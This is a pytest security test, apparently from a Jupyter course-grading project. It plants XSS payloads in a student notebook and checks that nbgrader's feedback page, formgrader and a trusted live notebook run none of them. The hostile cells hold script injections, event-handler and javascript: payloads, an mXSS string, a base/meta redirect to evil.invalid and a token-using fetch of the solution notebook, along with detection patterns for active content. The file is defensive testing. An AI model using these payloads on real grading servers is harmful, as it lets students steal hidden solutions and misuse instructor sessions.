"""A hostile submission's scripts never run where a person views it, in a real browser.

One course, one student: the reference answers, with cells of the student's own whose outputs and markdown hold
every kind of active content (``<script>``, ``onerror=``, ``javascript:`` links, ``<iframe srcdoc>``, SVG with
script, ``application/javascript``, a widget view, raw HTML in markdown, ``<meta http-equiv=refresh>``,
``<base>``, forms) beside honest content (a plot as PNG and as SVG, a table, text, math, markdown). It is graded
by real ``nbgrader autograde`` and ``generate_feedback``, then opened in headless Debian chromium (Playwright):

1. the feedback page, as a file;
2. formgrader's view of the same submission, on a Jupyter server with the instructor's set-up and token;
3. the graded notebook itself, as formgrader's "Open live notebook" opens it (Jupyter Notebook 7, same server),
   trusted by the instructor first: the worst case, where Jupyter renders outputs with their scripts.

The same submission graded by ``posenc-grade --jobs 2`` gives a graded notebook and a feedback page with nothing
active in them either (no browser needed).

Each payload calls ``__hit(name)``, a function the test puts in every frame of the page
(``page.expose_function``), or opens a dialog, or asks the Jupyter API for the source notebook with the page's
token. The test records every call, dialog, console message and request, clicks every ``javascript:`` link the
page shows, and finds none; and what honest work shows is there (the images decoded, the table, the text). The
screenshots go to ``$POSENC_SCREENSHOTS`` (or pytest's temporary folder), for a person to look at.

The attack succeeds against the code before engine/hardened_grading/preprocessors/inert.py (main at 766cc86): the feedback page ran 14
payloads, formgrader's 15 (one read the 157 KB source notebook through the API with the token), the trusted live
notebook 4 (and a ``<base>`` made Notebook 7 load its own scripts from another host); the class grader's graded
notebook held application/javascript and a widget view (docs/instructors/grading-safely.md).
"""

import json
import os
import re
import shutil
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell

from posenc_course.course import generate, nbgrader_env, new_course
from posenc_course.layout import NOTEBOOK, SOURCE_NOTEBOOK, points_by_hand
from posenc_course.submissions import make_submission, reference_answers, write_submission

from ..helpers.children import run_nbgrader
from ..helpers import graders
from ..helpers.lab import chromium, formgrader_environment, formgrader_server, screenshot_folder, skip_without_chromium

playwright_api = pytest.importorskip("playwright.sync_api")

STUDENT = "mallory"
GRADED_NOTEBOOK = lambda course: course / "autograded" / STUDENT / "posenc" / NOTEBOOK  # noqa: E731
#: What a payload calls: the recorder the test puts in every frame, else nothing (the page still runs it).
HIT = "(window.__hit || parent.__hit || function () {})"
#: Where the source notebook (solutions and hidden tests) is, through the Jupyter API of formgrader's server.
SOURCE_API = "/api/contents/source/posenc/exercises.ipynb"

#: The student's own code cell: every output type that can carry a script, each calling HIT if it runs.
HOSTILE_CODE = r'''
from IPython.display import HTML, SVG, Javascript, Markdown, display
HIT = "(window.__hit || parent.__hit || function () {})"
display(HTML(f"<b>html output</b><script>{HIT}('html-script')</script>"))
display(HTML(f"<img src=x onerror=\"{HIT}('html-onerror'); alert('html-onerror')\">"))
display(HTML(f"<iframe srcdoc=\"<script>{HIT}('html-iframe-srcdoc')</script>\"></iframe>"))
display(HTML(f"<svg onload=\"{HIT}('html-svg-onload')\"><circle r='4'/></svg>"))
display(HTML(f"<a href=\"javascript:{HIT}('html-javascript-link')\">a javascript: link</a>"))
display(HTML(f"<details open ontoggle=\"{HIT}('html-ontoggle')\"><summary>details</summary>x</details>"))
display(HTML(f"<script>{HIT}('html-isolated')</script>"), metadata={"text/html": {"isolated": True}})
display(HTML("<meta http-equiv='refresh' content='0;url=?refreshed=1'><base href='http://evil.invalid/'>"))
display(HTML("<form action='?formsent=1'><input name=q value=phish><button>Save</button></form>"))
display(Javascript(f"{HIT}('javascript-output'); fetch(location.origin + '/api/contents/source/posenc/exercises.ipynb'"
                   f" + location.search).then(r => r.text()).then(t => {HIT}('stolen ' + t.length))"))
display(Markdown(f"markdown output <img src=x onerror=\"{HIT}('markdown-output')\">"))
display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{HIT}('svg-onload')\">"
            f"<script>{HIT}('svg-script')</script><circle r='4'/></svg>"))
display({"application/vnd.jupyter.widget-view+json": {"model_id": "0", "version_major": 2, "version_minor": 0},
         "text/plain": "a widget"}, raw=True)
'''

#: The student's own markdown cell: raw HTML that runs scripts, and an mXSS.
HOSTILE_MARKDOWN = f'''**Hostile markdown** <script>{HIT}('md-script')</script>
<img src=x onerror="{HIT}('md-onerror')"> <a href="javascript:{HIT}('md-javascript-link')">a link</a>
and [a markdown link](javascript:{HIT}('md-markdown-link'))

<iframe srcdoc="<script>{HIT}('md-iframe')</script>"></iframe>
<svg><image href="x" onerror="{HIT}('md-svg-image')"/></svg>
<details open ontoggle="{HIT}('md-ontoggle')"><summary>s</summary>d</details>
<form action="?formsent=1"><input autofocus onfocus="{HIT}('md-onfocus')"></form>
<math><mtext><table><mglyph><style><img src=x onerror="{HIT}('md-mxss')"></style></mglyph></table></mtext></math>
<object data="data:text/html,<script>{HIT}('md-object')</script>"></object>
<meta http-equiv="refresh" content="0;url=?refreshed=md"><base href="http://evil.invalid/">
'''

#: Honest content of the student's own: a plot as PNG and as SVG, a table as pandas writes it, text, math.
HONEST_CODE = r'''
import io
import matplotlib
matplotlib.use("Agg")
import matplotlib.pyplot as plt
import numpy as np
from IPython.display import HTML, SVG, Image, Math, display
positions = np.arange(64)
fig, ax = plt.subplots(figsize=(5, 2.2))
for k in range(3):
    ax.plot(positions, np.sin(positions / 10000 ** (2 * k / 8)), label=f"dim {2 * k}")
ax.legend(); ax.set_title("honest plot")
png, svg = io.BytesIO(), io.StringIO()
fig.savefig(png, format="png", dpi=60); fig.savefig(svg, format="svg")
display(Image(png.getvalue()))
display(SVG(svg.getvalue()))
display(HTML('<div><style scoped>.dataframe tbody tr th { vertical-align: top; }</style>'
             '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>scheme</th>'
             '<th>context</th></tr></thead><tbody><tr><th>0</th><td>honest-table-rope</td><td>4096</td></tr>'
             '<tr><th>1</th><td>alibi</td><td>2048</td></tr></tbody></table></div>'))
display(Math(r"\sin(\omega_k t)"))
print("honest printed text")
'''
HONEST_MARKDOWN = r'''## Honest markdown

Some **bold**, a [link](https://example.org), math $e^{i\theta}$ and a table:

| scheme | learned |
| --- | --- |
| honest-md-sinusoidal | no |
'''


@pytest.fixture(scope="module")
def screenshots(tmp_path_factory):
    return screenshot_folder(tmp_path_factory)


def hostile_course(folder):
    """A new course in `folder`, with the assignment released and the hostile submission in ``submitted/``."""
    course = new_course(folder)
    release = generate(course)
    notebook = make_submission(reference_answers(course / "source" / "posenc" / NOTEBOOK), release_notebook=release)
    notebook.cells += [new_markdown_cell(HONEST_MARKDOWN), new_code_cell(HONEST_CODE),
                       new_markdown_cell(HOSTILE_MARKDOWN), new_code_cell(HOSTILE_CODE)]
    write_submission(notebook, course / "submitted", STUDENT)
    return course


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The hostile submission, graded by ``nbgrader autograde`` and given feedback by ``generate_feedback``."""
    skip_without_chromium()
    course = hostile_course(tmp_path_factory.mktemp("course"))
    for command in (["autograde", "posenc", "--force"], ["generate_feedback", "posenc", "--force"]):
        result = run_nbgrader(course, *command)
        assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-2000:]
    return course


@pytest.fixture(scope="module")
def browser(graded):
    with playwright_api.sync_playwright() as playwright:
        # --no-sandbox: Chromium's own sandbox cannot start as root, as in CI.
        browser = playwright.chromium.launch(executable_path=chromium(), args=["--no-sandbox"])
        try:
            yield browser
        finally:
            browser.close()


@pytest.fixture(scope="module")
def formgrader(graded, tmp_path_factory):
    """A Jupyter server in the course with the instructor's set-up (formgrader), on the loopback with a token."""
    token = "instructor-secret-token"
    environment = formgrader_environment(tmp_path_factory.mktemp("jupyter"), nbgrader_env())
    # The worst case of the live notebook: the instructor trusts it (saving it signs it), so that Jupyter renders
    # its outputs as the kernel sent them, scripts included.
    subprocess.run([sys.executable, "-m", "jupyter", "trust", str(GRADED_NOTEBOOK(graded))], env=environment,
                   check=True, capture_output=True)
    with formgrader_server(graded, environment, token) as base:
        listing = json.loads(urllib.request.urlopen(
            f"{base}/formgrader/api/submitted_notebooks/posenc/exercises?token={token}", timeout=30).read())
        [row] = [row for row in listing if row["student"] == STUDENT]
        yield type("Formgrader", (), {"base": base, "token": token, "submission": row["id"], "score": row["score"],
                                      "max_score": row["max_score"]})


#: Where a page shows what the student made: outputs and rendered markdown (nbconvert's pages; JupyterLab's).
STUDENT_AREAS = ".output_subarea, .text_cell_render"
LIVE_AREAS = ".jp-OutputArea-output, .jp-MarkdownOutput"
#: In the page: what in the student's areas could run or send something.
ACTIVE_IN_PAGE = """([areas, allowed]) => {
  const found = [];
  for (const area of document.querySelectorAll(areas)) {
    for (const element of area.querySelectorAll('*')) {
      const name = element.tagName.toLowerCase();
      if (['script', 'iframe', 'object', 'embed', 'form', 'input', 'button', 'meta', 'base', 'svg', 'math',
           'frame', 'link', 'style', 'textarea'].includes(name) && !allowed.includes(name)) found.push(name);
      for (const attribute of element.attributes) {
        const value = attribute.value.trim().toLowerCase();
        if (attribute.name.startsWith('on')) found.push(name + ' ' + attribute.name);
        if (['href', 'src', 'action', 'formaction', 'data', 'xlink:href'].includes(attribute.name)
            && /^(javascript|vbscript|data:text)/.test(value)) found.push(name + ' ' + attribute.name + '=' + value);
      }
    }
  }
  return found.concat(Array.from(document.querySelectorAll('base, meta[http-equiv=refresh]')).map(e => e.outerHTML));
}"""
#: In the page: click every javascript: link (a person might), and focus every field.
CLICK_JAVASCRIPT_LINKS = """areas => {
  for (const link of document.querySelectorAll('a[href^="javascript:" i]')) link.click();
  for (const area of document.querySelectorAll(areas)) for (const field of area.querySelectorAll('input')) field.focus();
}"""


#: In formgrader's page: its own scripts have run (formgrade.js takes its links out of the tab order when ready).
FORMGRADER_READY = "() => document.querySelector('a[tabindex=\"-1\"]') !== null"


def network_idle(page, pending):
    """Wait for the page's network to be idle (no request for half a second); if it never is, fail naming the
    requests still pending (`pending`, kept by the caller from the page's request events), not only the time
    out (a feedback page opened as a file once waited 60 s here, on a loaded machine, and said no more)."""
    try:
        page.wait_for_load_state("networkidle")
    except playwright_api.TimeoutError as error:
        raise AssertionError(f"the network never went idle; pending: {sorted(pending) or 'none'}") from error


def visit(browser, url, screenshots, name, ready=None, areas=STUDENT_AREAS, allowed=()):
    """Open `url` in a fresh page with a recorder of everything a script could do; return what it recorded.
    Screenshots of the top of the page, the honest cells and the hostile ones go to `screenshots`, named `name`-*.png.
    `ready`: a JavaScript condition to wait for once the page has loaded (the page's own scripts have run);
    `areas`: where the page shows the student's content; `allowed`: tags found there that are not the student's
    (the page's own renderers')."""
    seen = {"hits": [], "dialogs": [], "console": [], "requests": [], "frames": []}
    context = browser.new_context(viewport={"width": 1300, "height": 1400})
    page = context.new_page()
    page.set_default_timeout(60_000)
    page.expose_function("__hit", lambda name: seen["hits"].append(name))
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: seen["console"].append(f"{message.type}: {message.text}"))
    page.on("request", lambda request: seen["requests"].append(request.url))
    page.on("framenavigated", lambda frame: seen["frames"].append(frame.url))
    pending = set()  # requests started and not finished: named if the network never goes idle
    page.on("request", lambda request: pending.add(request.url))
    for event in ("requestfinished", "requestfailed"):
        page.on(event, lambda request: pending.discard(request.url))
    try:
        page.goto(url, wait_until="load")
        network_idle(page, pending)
        if ready:
            try:
                page.wait_for_function(ready, timeout=30_000)
            except playwright_api.Error as error:  # the page is not the page any more: a payload navigated it away
                seen.setdefault("errors", []).append(f"ready: {str(error).splitlines()[0]}")
        for step in ("click", "look"):
            try:  # a payload that navigated the page away ends the step: recorded, then looked at again
                if step == "click":
                    page.evaluate(CLICK_JAVASCRIPT_LINKS, areas)
                network_idle(page, pending)
                seen["active"] = page.evaluate(ACTIVE_IN_PAGE, [areas, list(allowed)])
                seen["text"] = page.inner_text("body")
                seen["images"] = page.evaluate(
                    "areas => Array.from(document.querySelectorAll(areas)).flatMap(a => Array.from(a.querySelectorAll('img')))"
                    ".map(i => [i.src.slice(0, 22), i.naturalWidth])", areas)
                seen["tables"] = page.evaluate(
                    "areas => Array.from(document.querySelectorAll(areas)).flatMap(a => Array.from(a.querySelectorAll('table')))"
                    ".map(t => t.rows.length)", areas)
            except playwright_api.Error as error:
                seen.setdefault("errors", []).append(f"{step}: {str(error).splitlines()[0]}")
                page.wait_for_load_state("load")
        seen["url"] = page.url
        for part, text in (("top", None), ("honest", "Honest markdown"), ("hostile", "Hostile markdown")):
            shown = page.locator(areas).get_by_text(text) if text else None
            if shown is not None and shown.count():
                shown.first.evaluate("element => element.scrollIntoView()")
            page.screenshot(path=str(screenshots / f"{name}-{part}.png"))
        page.evaluate("__hit('control: the recorder works')")  # the recorder itself, called by the page
    finally:
        context.close()
    print(f"\n{url}: what ran: {seen['hits']}; dialogs: {seen['dialogs']}; API and other requests: "
          f"{[u for u in seen['requests'] if '/api/contents' in u or 'refreshed' in u or 'evil' in u]}; "
          f"active elements: {seen.get('active')}; errors: {seen.get('errors')}")
    return seen


def assert_nothing_ran(seen, page_url):
    assert "control: the recorder works" in seen["hits"], seen["hits"]
    assert [hit for hit in seen["hits"] if not hit.startswith("control")] == [], seen["hits"]
    assert "errors" not in seen, seen["errors"]
    assert not seen["dialogs"], seen["dialogs"]
    assert not [message for message in seen["console"] if "hit" in message.lower() or "stolen" in message], seen["console"]
    assert not [url for url in seen["requests"] if "/api/contents" in url or "refreshed" in url
                or "formsent" in url or "evil.invalid" in url], seen["requests"]
    assert seen["url"] == page_url and set(seen["frames"]) <= {page_url, "about:blank", "about:srcdoc"}, seen["frames"]
    assert not seen["active"], seen["active"]


def assert_honest_content_shown(seen):
    """The honest cells' outputs and markdown are there: two decoded plots (PNG, SVG), the table, text, math."""
    kinds = [source for source, width in seen["images"] if width > 0]
    assert any(kind.startswith("data:image/png") for kind in kinds), seen["images"]
    assert any(kind.startswith("data:image/svg+xml") for kind in kinds), seen["images"]
    assert 3 in seen["tables"] and 2 in seen["tables"], seen["tables"]  # the HTML table; the markdown one
    for text in ("honest-table-rope", "honest-md-sinusoidal", "honest printed text", "Honest markdown", "html output"):
        assert text in seen["text"], text


def test_the_feedback_page_runs_no_script_of_a_hostile_submission(graded, browser, screenshots):
    """The feedback page, opened as a file: no payload runs, no request leaves, and honest content shows."""
    feedback = graded / "feedback" / STUDENT / "posenc" / "exercises.html"
    url = feedback.as_uri()
    seen = visit(browser, url, screenshots, "hostile-feedback", allowed=("math",))  # the engine's MathML of formulas
    assert_nothing_ran(seen, url)
    assert_honest_content_shown(seen)
    assert [request for request in seen["requests"] if not request.startswith(("file:", "data:"))] == []
    page = feedback.read_text()
    assert page.index('http-equiv="Content-Security-Policy"') < page.index("<title>"), "the policy comes first"


def test_formgrader_shows_a_hostile_submission_without_running_it(formgrader, browser, screenshots):
    """formgrader's view of the submission, with the instructor's token in the URL as formgrader links it: no
    payload runs, no request asks the Jupyter API for anything, and honest content shows; the student's
    reference answers keep full marks."""
    url = f"{formgrader.base}/formgrader/submissions/{formgrader.submission}/?token={formgrader.token}"
    # formgrader's own scripts run on this page: a script can run here, and none of the student's does
    seen = visit(browser, url, screenshots, "hostile-formgrader", ready=FORMGRADER_READY,
                 allowed=("math",))  # the engine's MathML of formulas, from the same markdown2html
    assert_nothing_ran(seen, url)
    assert_honest_content_shown(seen)
    assert not [request for request in seen["requests"]
                if urllib.parse.urlparse(request).path.startswith(("/api/", "/files/"))], seen["requests"]
    # The reference answers: every automatic point; the reflections wait for a grader.
    by_hand = points_by_hand(nbformat.read(SOURCE_NOTEBOOK, as_version=4))
    assert formgrader.score == formgrader.max_score - by_hand > 0


#: In JupyterLab's page of the notebook: every cell, the student's last one included, is rendered.
LIVE_READY = "() => document.body.innerText.includes('a widget') && document.querySelectorAll('.jp-Cell').length > 40"


def test_the_graded_notebook_opened_live_and_trusted_runs_nothing(formgrader, browser, screenshots):
    """formgrader's "Open live notebook" (``/notebooks/...``, Jupyter Notebook 7) of the graded notebook, trusted
    by the instructor, which is when Jupyter renders outputs as they are, scripts included: the graded notebook
    on disk holds none (InertContent ran right after the kernel), and Jupyter's own markdown renderer cleans
    markdown. Nothing runs, nothing asks for the source notebook, and honest content shows."""
    url = f"{formgrader.base}/notebooks/autograded/{STUDENT}/posenc/{NOTEBOOK}?token={formgrader.token}"
    # MathJax's own output, and a form with its field, which JupyterLab's sanitizer keeps (without handlers)
    seen = visit(browser, url, screenshots, "hostile-live", ready=LIVE_READY, areas=LIVE_AREAS,
                 allowed=("math", "form", "input"))
    assert "control: the recorder works" in seen["hits"], seen["hits"]
    assert [hit for hit in seen["hits"] if not hit.startswith("control")] == [], seen["hits"]
    assert not seen["dialogs"] and "errors" not in seen, (seen["dialogs"], seen.get("errors"))
    assert not [url for url in seen["requests"] if "source/posenc" in url or "refreshed" in url
                or "formsent" in url or "evil.invalid" in url], seen["requests"]
    assert seen["active"] == [], seen["active"]
    assert_honest_content_shown(seen)


def test_the_parallel_grader_leaves_nothing_active_either(unprivileged_grader):
    """``posenc-grade --jobs 2`` (the class grader) and ``generate_feedback``, run as an unprivileged user (an
    instructor on a hub, tests/helpers/graders.py): the graded notebook holds only passive output types and cleaned HTML,
    and the feedback page no script, its policy first (what the browser tests above show of ``nbgrader
    autograde``'s, run as this test's user)."""
    user, python = unprivileged_grader
    root = graders.shared_folder("posenc-inert-parallel-")
    try:
        check_parallel_grading(root, user, python)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def check_parallel_grading(root, user, python):
    course = hostile_course(root / "course")
    graders.hand_over(root, user)
    env = nbgrader_env(PATH=f"{Path(python).parent}{os.pathsep}{os.environ.get('PATH', '')}")
    result = graders.as_grader(user, [python, "-m", "posenc_course.instructor.grade", "posenc", "--jobs", "2", "--force"],
                               course, env, timeout=900)
    assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-2000:]
    feedback = graders.as_grader(user, [python, "-m", "nbgrader", "generate_feedback", "posenc", "--force"], course,
                                 env, timeout=900)
    assert feedback.returncode == 0, feedback.stdout[-2000:] + feedback.stderr[-2000:]
    notebook = nbformat.read(str(GRADED_NOTEBOOK(course)), as_version=4)
    outputs = [output for cell in notebook.cells for output in cell.get("outputs", [])]
    kinds = {kind for output in outputs for kind in output.get("data", {})}
    assert kinds <= {"text/plain", "text/html", "image/png", "image/svg+xml", "text/latex"}, kinds
    shown = "".join(output["data"].get("text/html", "") + output["data"].get("image/svg+xml", "")
                    for output in outputs if "data" in output)
    assert "[script removed]" in shown and "honest-table-rope" in shown
    assert not re.search(r"<\s*(script|iframe|object|embed|meta|base|form)\b|\son\w+\s*=|=\s*[\"']?\s*javascript:",
                         shown, re.I)
    page = (course / "feedback" / STUDENT / "posenc" / "exercises.html").read_text()
    assert "<script" not in page and page.index('http-equiv="Content-Security-Policy"') < page.index("<title>")
